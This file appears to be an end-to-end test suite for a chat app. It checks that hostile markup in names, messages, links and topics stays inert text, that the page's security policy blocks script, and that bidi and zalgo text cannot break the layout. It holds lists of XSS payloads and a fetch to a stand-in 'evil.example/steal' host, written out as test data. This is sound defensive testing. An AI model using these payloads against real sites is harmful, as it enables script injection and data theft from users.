// What others write, as a page shows it: markup stays text, marks that turn or pile up stay where they were written.

import type { Page } from "playwright-core";
import { expect } from "vitest";
import { join as enter } from "../../support/socket-client.ts";
import { DESKTOP, newRoom, PHONE, test } from "../support/story.ts";

/** Each would set `pwned`, open a dialog, or load something, if any of it were more than text. */
const MARKUP = [
  "<img src=x onerror=pwned=1>",
  "<script>pwned=1</script>",
  "<svg onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  '"><b onclick=alert(1)>',
  "{{constructor.constructor('pwned=1')()}}",
  "${alert(1)}",
  "<style>*{display:none}</style>",
  "<base href=//evil.example>",
  "<form action=//evil.example>",
];
const LINKS = [
  "javascript:alert(1)",
  "JaVaScRiPt://%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:x",
  'https://a.example/"onmouseover="alert(1)',
  "https://a.example/<img src=x onerror=alert(1)>",
  "https://a.example/\u202Egnp.exe",
  "[x](javascript:alert(1))",
  "<a href=javascript:alert(1)>x</a>",
  "![x](https://evil.example/track.png)",
];

/** The first so many are said by bots, each under its own markup as a name. */
const BOTS = 4;

/** Whatever is there that no text of ours would make. */
async function foreignNodes(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const foreign =
      "#app :is(script, iframe, frame, object, embed, style, base, link, meta, img:not([src='/icon.svg']), video, audio, template)";
    const nodes = [...document.querySelectorAll(foreign)].map((element) => element.outerHTML.slice(0, 100));
    for (const element of document.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name) || name === "srcdoc") nodes.push(`${element.tagName} ${name}=${value}`);
        if (/^(?:href|src|action|formaction|xlink:href)$/.test(name)) {
          const { protocol } = new URL(value, location.href);
          if (protocol !== "http:" && protocol !== "https:") nodes.push(`${element.tagName} ${name}=${value}`);
        }
      }
    }
    return nodes;
  });
}

/** A room made and spoken in by people whose names, and whose room's words, are markup. */
async function hostileRoom(origin: string): Promise<string> {
  const [first = "", second = ""] = MARKUP;
  const asks = async (path: string, body: unknown, token = "") => {
    const response = await fetch(`${origin}${path}`, {
      method: "POST",
      headers: { "content-type": "application/json", ...(token === "" ? {} : { authorization: `Bearer ${token}` }) },
      body: JSON.stringify(body),
    });
    expect(response.ok, `${path}: ${response.status}`).toBe(true);
    return response.json() as Promise<Record<string, string>>;
  };
  const { token = "" } = await asks("/api/session", { name: first });
  const room = newRoom("xss");
  await asks("/api/rooms", { name: room, title: first, visibility: "unlisted" }, token);
  const owner = await enter(origin, room, { token });
  owner.send({ type: "configure", id: "topic", topic: `${second} https://a.example/"onload=x` });
  for (const name of MARKUP.slice(0, BOTS)) {
    const { secret = "", id = "" } = await asks(`/api/rooms/${room}/bots`, { name: name.slice(0, 64) }, token);
    await asks(`/api/bots/${room}/${id}`, { text: name }, secret);
  }
  for (const text of [...MARKUP.slice(BOTS), ...LINKS]) await owner.say(text);
  const guest = await enter(origin, room, { name: second });
  const { seq } = await guest.say(`last ${first}`);
  await guest.ask({ type: "react", id: "r1", message: seq, emoji: "<b>x</b>", on: true });
  guest.send({ type: "typing", on: true });
  return room;
}

test("XSS: in names, texts, links, the room's title and topic, reactions and names of bots, markup is text", async ({
  stage,
}) => {
  const ada = await stage.person();
  const room = await hostileRoom(stage.origin);
  const dialogs: string[] = [];
  ada.page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const elsewhere: string[] = [];
  ada.page.on("request", (request) => {
    if (new URL(request.url()).hostname !== "127.0.0.1" && !request.url().startsWith("data:"))
      elsewhere.push(request.url());
  });
  await ada.enter(room);
  await ada.log.getByText("last <img src=x onerror=pwned=1>", { exact: true }).waitFor();
  await ada.page.getByRole("heading", { level: 1, name: "<img src=x onerror=pwned=1>" }).waitFor();
  const shown = await ada.texts();
  // A picture is a link with a mark before it; nothing is fetched for it.
  for (const text of [...MARKUP, ...LINKS]) expect(shown).toContain(text.replace(/^!\[x\].*/, "!x"));
  const hrefs = await ada.log
    .getByRole("link")
    .evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
  expect(
    hrefs.every((href) => /^https?:\/\//.test(href)),
    hrefs.join(" "),
  ).toBe(true);
  expect(await foreignNodes(ada.page)).toEqual([]);
  // The frame for other sites shows the same, by itself here.
  await ada.goTo(`/embed/${room}`);
  await ada.log.getByText("last <img src=x onerror=pwned=1>", { exact: true }).waitFor();
  expect(await foreignNodes(ada.page)).toEqual([]);
  expect(await ada.page.evaluate(() => "pwned" in globalThis)).toBe(false);
  expect(dialogs).toEqual([]);
  expect(elsewhere, "nothing is fetched from anywhere because of what somebody wrote").toEqual([]);
});

test("XSS: had markup got into a page, its policy would run none of it", async ({ stage }) => {
  const ada = await stage.person();
  await ada.goTo(`/r/${newRoom("policy")}`);
  const outcomes = await ada.page.evaluate(async () => {
    const attempt = (run: () => unknown): string => {
      try {
        run();
        return "done";
      } catch (error) {
        return error instanceof Error ? error.constructor.name : "thrown";
      }
    };
    // What the test asks by itself may use eval; what comes after this is the page's own.
    await new Promise((resolve) => setTimeout(resolve));
    const element = document.createElement("div");
    document.body.append(element);
    const script = document.createElement("script");
    const outcomes = [
      attempt(() => (element.innerHTML = "<img src=x onerror=pwned=1>")),
      attempt(() => element.insertAdjacentHTML("beforeend", "<b>x</b>")),
      attempt(() => document.write("<script>pwned=1</script>")),
      attempt(() => (script.text = "pwned=1")),
      attempt(() => (script.src = "https://evil.example/x.js")),
      attempt(() => element.setAttribute("onclick", "pwned=1")),
      attempt(() => Reflect.construct(Function, ["pwned=1"])),
      attempt(() => trustedTypes.createPolicy("default", {})),
    ];
    element.click();
    await fetch("https://evil.example/steal").catch(() => outcomes.push("not fetched"));
    return [...outcomes, "pwned" in globalThis];
  });
  expect(outcomes.slice(-2)).toEqual(["not fetched", false]);
  expect(outcomes.slice(0, 5)).toEqual(Array.from({ length: 5 }, () => "TypeError"));
  expect(outcomes[6]).toBe("EvalError");
  expect(outcomes[7]).toBe("TypeError");
  ada.forgetComplaints();
});

/** Of the browser; no types know it yet. */
declare const trustedTypes: { createPolicy(name: string, rules: object): unknown };

const ZALGO = `Z${"\u0301\u0316\u0489\u0334".repeat(60)}algo`;
const TURNED = "\u202Etxet denrut";
const LONG = "w".repeat(4_000);

test.for([
  ["desktop", DESKTOP],
  ["phone", PHONE],
] as const)("bidi and zalgo: on a %s they change nothing but their own message", async ([, device], { stage }) => {
  const ada = await stage.person(device);
  const room = newRoom("bidi");
  // As high as a name may be piled up.
  const mallory = await enter(stage.origin, room, { name: "M\u0301\u0316".repeat(21) });
  const bob = await enter(stage.origin, room, { name: "Bob" });
  await ada.enter(room);
  await bob.say("before");
  for (const text of [ZALGO, TURNED, `\u2067${"\u202E".repeat(500)}open`, LONG, "\n".repeat(3) + "x"])
    await mallory.say(text);
  await bob.say("after");
  await ada.sees("before", ...(await ada.texts()).slice(1, -1), "after");

  expect(
    await ada.page.evaluate(() => {
      const { scrollWidth, clientWidth } = document.documentElement;
      return scrollWidth - clientWidth;
    }),
    "the page is no wider than its window",
  ).toBeLessThanOrEqual(0);
  const log = await ada.log.evaluate((element) => {
    const box = element.getBoundingClientRect();
    const messages = [...element.querySelectorAll("li.message")].map((message) => {
      const { left, right, top, bottom } = message.getBoundingClientRect();
      const text = message.querySelector("[dir=auto]");
      return {
        left,
        right,
        top,
        bottom,
        height: bottom - top,
        bidi: text === null ? "" : getComputedStyle(text).unicodeBidi,
      };
    });
    const wide = [...element.querySelectorAll("*")].filter(
      (each) => each.getBoundingClientRect().right > box.right + 1,
    );
    return {
      left: box.left,
      right: box.right,
      overflow: element.scrollWidth - element.clientWidth,
      wide: wide.map((each) => `<${each.tagName} class="${each.className}"> ${each.textContent.slice(0, 40)}`),
      messages,
    };
  });
  expect(log.wide, "what is wider than the log").toEqual([]);
  expect(log.overflow).toBeLessThanOrEqual(0);
  expect(log.messages).toHaveLength(7);
  log.messages.forEach((message, index) => {
    expect(message.left, `message ${index}`).toBeGreaterThanOrEqual(log.left);
    expect(message.right, `message ${index}`).toBeLessThanOrEqual(log.right + 1);
    expect(message.bidi, "its direction is its own").toMatch(/plaintext|isolate/);
    const next = log.messages[index + 1];
    if (next !== undefined)
      expect(next.top, "no message lies over the next").toBeGreaterThanOrEqual(message.bottom - 1);
  });
  expect(log.messages[1]?.height, "marks that pile up make no line higher").toBeLessThan(120);
  const byline = await ada.log.locator(".byline").evaluateAll((lines) =>
    lines.map((line) => {
      const [author, time] = [line.querySelector(".author"), line.querySelector("time")].map((part) =>
        part?.getBoundingClientRect(),
      );
      return (author?.right ?? 0) <= (time?.left ?? 0) + 1;
    }),
  );
  expect(byline.every(Boolean), "a name and its time stand in their order").toBe(true);
});
